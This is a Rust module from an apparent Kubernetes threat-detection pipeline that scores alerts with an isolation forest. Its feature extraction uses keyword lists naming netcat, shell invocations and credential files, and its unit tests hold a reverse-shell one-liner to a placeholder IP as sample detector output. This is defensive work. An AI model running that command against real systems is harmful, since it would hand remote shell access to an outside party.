//! Anomaly scoring for normalized threats.
//!
//! [`Scorer`] trains a small isolation forest once, on synthetic
//! training data shaped like the normal/anomalous traffic mix this
//! pipeline expects to see, then scores each incoming [`Threat`]
//! against a 15-dimension feature vector derived from its fields.
//! If feature extraction or scoring ever goes wrong, callers fall
//! back to [`Severity::fallback_score`].

mod forest;

use forest::IsolationForest;
use ndarray::Array1;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use sentinel_model::{Severity, Threat, ThreatType};

const NUM_FEATURES: usize = 15;
const TRAINING_SAMPLES: usize = 200;
const TRAINING_SEED: u64 = 42;

pub struct Scorer {
    forest: IsolationForest,
}

impl Scorer {
    pub fn new() -> Self {
        let training_data = generate_training_data();
        let forest = IsolationForest::fit(&training_data, 100, 200, TRAINING_SEED);
        tracing::info!(samples = TRAINING_SAMPLES, features = NUM_FEATURES, "scorer initialized");
        Scorer { forest }
    }

    /// Returns an anomaly score in `[0, 1]`, higher meaning more
    /// anomalous. Never panics: any unexpected feature shape falls
    /// back to the threat's severity-based default.
    pub fn score(&self, threat: &Threat) -> f64 {
        let features = extract_features(threat);
        let raw = self.forest.score(features.as_slice().expect("contiguous feature vector"));
        if raw.is_finite() {
            raw.clamp(0.0, 1.0)
        } else {
            threat.severity.fallback_score()
        }
    }
}

impl Default for Scorer {
    fn default() -> Self {
        Self::new()
    }
}

fn threat_type_score(t: ThreatType) -> f64 {
    match t {
        ThreatType::ReverseShell => 0.95,
        ThreatType::ContainerEscape => 0.90,
        ThreatType::PrivilegeEscalation => 0.85,
        ThreatType::MaliciousProcess => 0.80,
        ThreatType::NetworkAnomaly => 0.60,
        ThreatType::FileAnomaly => 0.50,
        ThreatType::UnauthorizedAccess => 0.40,
        ThreatType::Unknown => 0.30,
    }
}

fn severity_score(s: Severity) -> f64 {
    match s {
        Severity::Critical => 0.95,
        Severity::High => 0.75,
        Severity::Medium => 0.50,
        Severity::Low => 0.25,
    }
}

fn contains_any(haystack: &str, keywords: &[&str]) -> bool {
    keywords.iter().any(|kw| haystack.contains(kw))
}

/// Extracts the 15-feature vector used to score a threat. Keyword
/// tables and ranges mirror the keyword sets the Normalizer (and the
/// reference implementation this pipeline was distilled from) already
/// use for classification, reapplied here at the presence/absence
/// level rather than as a classifier.
fn extract_features(threat: &Threat) -> Array1<f64> {
    let output_lower = threat.detector_output.to_lowercase();

    let normalized_output_length = (threat.detector_output.len() as f64 / 500.0).min(1.0);
    let rule_length = threat.detector_rule.as_deref().map(str::len).unwrap_or(0);
    let normalized_rule_length = (rule_length as f64 / 100.0).min(1.0);

    let network_activity = contains_any(&output_lower, &["nc ", "netcat", "connect", "socket", "port", "tcp", "udp"]);
    let file_access = contains_any(
        &output_lower,
        &["/etc/passwd", "/etc/shadow", "/root", "secret", "credential", "password"],
    );
    let process_anomaly = contains_any(&output_lower, &["setuid", "setgid", "ptrace", "inject", "fork"]);
    let container_escape = contains_any(&output_lower, &["/proc/sys", "/sys", "chroot", "mount", "host"]);
    let privilege_escalation = contains_any(&output_lower, &["sudo", "su ", "pkexec", "doas"]);
    let shell_activity = contains_any(&output_lower, &["bash -i", "/bin/sh", "/bin/bash", "shell", "sh -c"]);

    let suspicious_namespaces = ["default", "kube-system"];
    let context_feature = match threat.source.namespace.as_deref() {
        Some(ns) if suspicious_namespaces.contains(&ns) => 0.7,
        _ => 0.3,
    };

    Array1::from_vec(vec![
        normalized_output_length,
        if threat.source.pod.is_some() { 1.0 } else { 0.0 },
        if threat.source.user.is_some() { 1.0 } else { 0.0 },
        normalized_rule_length,
        threat_type_score(threat.threat_type),
        severity_score(threat.severity),
        b(network_activity),
        b(file_access),
        b(process_anomaly),
        b(container_escape),
        b(privilege_escalation),
        b(shell_activity),
        0.5, // time-of-day feature: no historical clock signal available yet
        0.3, // frequency feature: no historical pod/user counter available yet
        context_feature,
    ])
}

fn b(x: bool) -> f64 {
    if x {
        1.0
    } else {
        0.0
    }
}

fn generate_training_data() -> Vec<Vec<f64>> {
    let mut rng = StdRng::seed_from_u64(TRAINING_SEED);
    let normal_count = (TRAINING_SAMPLES as f64 * 0.8) as usize;
    let anomalous_count = (TRAINING_SAMPLES as f64 * 0.2) as usize;

    let mut data = Vec::with_capacity(TRAINING_SAMPLES);

    for _ in 0..normal_count {
        data.push(vec![
            rng.gen_range(50.0..200.0),
            1.0,
            if rng.gen_bool(0.7) { 1.0 } else { 0.0 },
            rng.gen_range(10.0..50.0),
            rng.gen_range(0.2..0.5),
            rng.gen_range(0.2..0.4),
            rng.gen_range(0.0..0.3),
            rng.gen_range(0.0..0.2),
            rng.gen_range(0.0..0.2),
            rng.gen_range(0.0..0.1),
            rng.gen_range(0.0..0.2),
            rng.gen_range(0.0..0.1),
            rng.gen_range(0.0..0.2),
            rng.gen_range(0.0..0.1),
            rng.gen_range(0.0..0.2),
        ]);
    }

    for _ in 0..anomalous_count {
        data.push(vec![
            rng.gen_range(300.0..1000.0),
            1.0,
            1.0,
            rng.gen_range(5.0..15.0),
            rng.gen_range(0.7..0.9),
            rng.gen_range(0.7..0.95),
            rng.gen_range(0.6..1.0),
            rng.gen_range(0.5..1.0),
            rng.gen_range(0.6..1.0),
            rng.gen_range(0.5..1.0),
            rng.gen_range(0.5..1.0),
            rng.gen_range(0.7..1.0),
            rng.gen_range(0.5..1.0),
            rng.gen_range(0.6..1.0),
            rng.gen_range(0.5..1.0),
        ]);
    }

    debug_assert!(data.iter().all(|row| row.len() == NUM_FEATURES));
    data
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::Utc;
    use sentinel_model::{Id, ThreatSource};
    use serde_json::Value as Json;

    fn threat_with(output: &str, threat_type: ThreatType, severity: Severity) -> Threat {
        Threat {
            id: Id::new(),
            detected_at: Utc::now(),
            severity,
            threat_type,
            source: ThreatSource {
                pod: Some("evil-pod".into()),
                namespace: Some("default".into()),
                container: None,
                user: Some("root".into()),
            },
            description: output.to_string(),
            detector_output: output.to_string(),
            detector_rule: Some("Terminal shell in container".into()),
            detector_priority: Some("Warning".into()),
            ml_score: None,
            confidence: 0.7,
            raw_event: Json::Null,
            resolved: false,
            resolved_at: None,
        }
    }

    #[test]
    fn training_data_has_right_shape_and_mixture() {
        let data = generate_training_data();
        assert_eq!(data.len(), 200);
        assert!(data.iter().all(|row| row.len() == NUM_FEATURES));
    }

    #[test]
    fn score_stays_in_unit_range() {
        let scorer = Scorer::new();
        let threat = threat_with("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", ThreatType::ReverseShell, Severity::Critical);
        let score = scorer.score(&threat);
        assert!((0.0..=1.0).contains(&score));
    }

    #[test]
    fn reverse_shell_scores_higher_than_benign_monitor_event() {
        let scorer = Scorer::new();
        let suspicious = threat_with(
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 sudo chroot /proc/sys",
            ThreatType::ReverseShell,
            Severity::Critical,
        );
        let benign = threat_with("container started normally", ThreatType::Unknown, Severity::Low);
        assert!(scorer.score(&suspicious) >= scorer.score(&benign));
    }
}
